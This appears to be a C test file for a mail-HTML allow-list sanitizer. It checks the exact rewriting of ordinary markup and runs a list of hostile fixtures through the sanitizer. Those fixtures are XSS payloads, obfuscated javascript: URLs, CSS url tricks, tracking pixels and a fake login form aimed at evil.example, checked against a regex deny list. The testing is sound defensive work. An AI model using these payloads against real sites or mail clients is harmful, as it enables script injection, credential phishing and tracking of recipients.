/* test-mailhtml.c - the allow-list rewrite of mail HTML: exact output for
 * ordinary markup, and hostile fixtures after which nothing executable
 * and no URL that loads anything may be left. */
#include <regex.h>
#include <stdlib.h>

#include "mailhtml.h"
#include "tap.h"

/* body_of - the part of mailhtml_write's document between <body> and </body>;
 * malloc'd, NULL on failure */
static char *body_of(const char *html, size_t len)
{
	char *doc = NULL;
	size_t dlen = 0;
	FILE *mem = open_memstream(&doc, &dlen);
	if (mem == NULL)
		return NULL;
	int r = mailhtml_write(mem, html, len);
	if (fclose(mem) != 0 || r < 0) {
		free(doc);
		return NULL;
	}
	char *start = strstr(doc, "<body>\n"), *end = start ? strstr(start, "\n</body>") : NULL;
	char *body = NULL;
	if (start != NULL && end != NULL) {
		start += 7;
		body = strndup(start, (size_t)(end - start));
	}
	free(doc);
	return body;
}

static const struct {
	const char *name, *html, *want;
} exact[] = {
    {"paragraphs and inline markup", "<p>Hello <b>World</b> <i>x</i></p>",
     "<p>Hello <b>World</b> <i>x</i></p>"},
    {"text is escaped again", "<p>a &amp; b &lt;c&gt; \"q\"</p>", "<p>a &amp; b &lt;c&gt; &quot;q&quot;</p>"},
    {"an http link opens in a new window without opener or referrer",
     "<a href=\"https://example.com/a?b=1&amp;c=2\" onclick=\"x()\">go</a>",
     "<a href=\"https://example.com/a?b&#61;1&amp;c&#61;2\" rel=\"noopener noreferrer\" "
     "target=\"_blank\">go</a>"},
    {"mailto links stay", "<a href=\"mailto:a@b.example\">mail</a>",
     "<a href=\"mailto:a@b.example\" rel=\"noopener noreferrer\" target=\"_blank\">mail</a>"},
    {"an image becomes its alt text", "<p><img src=\"http://evil.example/t.gif\" alt=\"Logo\">x</p>",
     "<p><span class=\"img\">[Logo]</span>x</p>"},
    {"an image without alt disappears", "<p>a<img src=\"cid:x\">b</p>", "<p>ab</p>"},
    {"unknown elements lose their tag, keep their text", "<custom-el foo=\"1\">inside</custom-el>", "inside"},
    {"tables with layout attributes",
     "<table border=\"1\" background=\"http://evil.example/bg.png\"><tr><td colspan=\"2\" "
     "bgcolor=\"#fff\">c</td></tr></table>",
     "<table border=\"1\"><tr><td colspan=\"2\" bgcolor=\"#fff\">c</td></tr></table>"},
    {"a harmless style stays", "<p style=\"color: red; font-weight: bold\">r</p>",
     "<p style=\"color: red; font-weight: bold\">r</p>"},
    {"void elements", "a<br>b<hr>", "<p>a<br>b</p><hr>"},
    {"comments dropped", "<p>a<!-- <script>x</script> -->b</p>", "<p>ab</p>"},
    {"empty input", "", ""},
};

/* Hostile fixtures: none of the patterns below may survive any of them. */
static const char *const hostile[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"http://evil.example/track.gif\" width=1 height=1>",
    "<body onload=alert(1)><p onmouseover=\"alert(1)\">hover</p></body>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example/\">protocol-relative</a>",
    "<a href=\"/relative/path\">relative</a>",
    "<div style=\"background:url(http://evil.example/bg.png)\">css</div>",
    "<div style=\"background:u\\72l(http://evil.example/bg.png)\">escaped css</div>",
    "<div style=\"width: expression(alert(1))\">ie</div>",
    "<style>@import url(http://evil.example/x.css); body{background:url(http://evil.example/b.png)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\"><a href=\"x\">x</a>",
    "<form action=\"http://evil.example/\"><input name=p type=password><button>Log in</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script><image href=\"http://evil.example/i.png\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"http://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"http://evil.example/x.swf\"></object><embed src=\"http://evil.example/x.swf\">",
    "<video poster=\"http://evil.example/p.png\"><source src=\"http://evil.example/v.mp4\"></video>",
    "<audio src=\"http://evil.example/a.mp3\"></audio>",
    "<table background=\"http://evil.example/t.png\"><tr><td "
    "background=\"http://evil.example/c.png\">x</td></tr></table>",
    "<div><p title=\"<script>alert(1)</script>\">markup in an attribute</p></div>",
    "<p title='x\" onmouseover=\"alert(1)'>attr break</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<a href=\"https://ok.example/\" ping=\"http://evil.example/ping\">ping</a>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<x onclick=alert(1)>x</x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><p>pi</p>",
    "<p>unclosed <b><i>nest <script>alert(1)",
};

/* Patterns of anything executable or loading, case-insensitive. */
static const char *const banned[] = {
    "<script",
    "<style",
    "<iframe",
    "<object",
    "<embed",
    "<link",
    "<meta",
    "<base",
    "<form",
    "<input",
    "<button",
    "<svg",
    "<math",
    "<img",
    "<video",
    "<audio",
    "<source",
    "<noscript",
    "[[:space:]]on[a-z]+=",
    "script:",
    "vbscript:",
    "data:",
    "src=",
    "srcdoc",
    "url\\(",
    "expression",
    "@import",
    "evil\\.example",
    "background=",
    "ping=",
    "formaction",
    "href=\"/",
    "<\\?",
};

int main(void)
{
	for (size_t i = 0; i < sizeof(exact) / sizeof(exact[0]); i++) {
		char *got = body_of(exact[i].html, strlen(exact[i].html));
		is_str(got, exact[i].want, "%s", exact[i].name);
		free(got);
	}

	regex_t re[sizeof(banned) / sizeof(banned[0])];
	for (size_t j = 0; j < sizeof(banned) / sizeof(banned[0]); j++)
		if (regcomp(&re[j], banned[j], REG_EXTENDED | REG_ICASE | REG_NOSUB) != 0)
			return 2;
	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		int bad = 0; /* the check can fail: the input itself matches a pattern */
		for (size_t j = 0; j < sizeof(banned) / sizeof(banned[0]); j++)
			bad |= regexec(&re[j], hostile[i], 0, NULL, 0) == 0;
		ok(bad, "hostile %zu is caught by the patterns as it comes", i + 1);
		char *got = body_of(hostile[i], strlen(hostile[i]));
		const char *hit = got == NULL ? "(no output)" : NULL;
		for (size_t j = 0; hit == NULL && j < sizeof(banned) / sizeof(banned[0]); j++)
			if (regexec(&re[j], got, 0, NULL, 0) == 0)
				hit = banned[j];
		ok(hit == NULL, "hostile %zu: nothing executable or remote left", i + 1);
		if (hit != NULL)
			printf("#   input %s\n#   output %s\n#   matched %s\n", hostile[i], got ? got : "",
			       hit);
		free(got);
	}
	for (size_t j = 0; j < sizeof(banned) / sizeof(banned[0]); j++)
		regfree(&re[j]);

	/* The document around the body: our own head only. */
	char *doc = NULL;
	size_t dlen = 0;
	FILE *mem = open_memstream(&doc, &dlen);
	mailhtml_write(mem, "<html><head><title>T</title><style>x{}</style></head><body>B</body></html>", 74);
	fclose(mem);
	ok(doc != NULL && strstr(doc, "<title>Message</title>") != NULL && strstr(doc, "<title>T") == NULL &&
	       strstr(doc, "x{}") == NULL,
	   "the sender's head is dropped, ours written");
	free(doc);

	/* Deep nesting: the walk has no recursion; libxml2 caps the depth. */
	size_t n = 50000;
	char *deep = malloc(n * 5 + 1);
	for (size_t i = 0; i < n; i++)
		memcpy(deep + i * 5, "<div>", 5);
	deep[n * 5] = '\0';
	char *got = body_of(deep, n * 5);
	ok(got != NULL, "50000 nested divs do not crash");
	free(got);
	free(deep);

	/* Invalid UTF-8 and NUL bytes in the input. */
	got = body_of("<p>a\xff\xfe<b>b\0c</b></p>", 17);
	ok(got != NULL && strstr(got, "<script") == NULL, "invalid bytes survive as text, not markup");
	free(got);
	return done_testing();
}
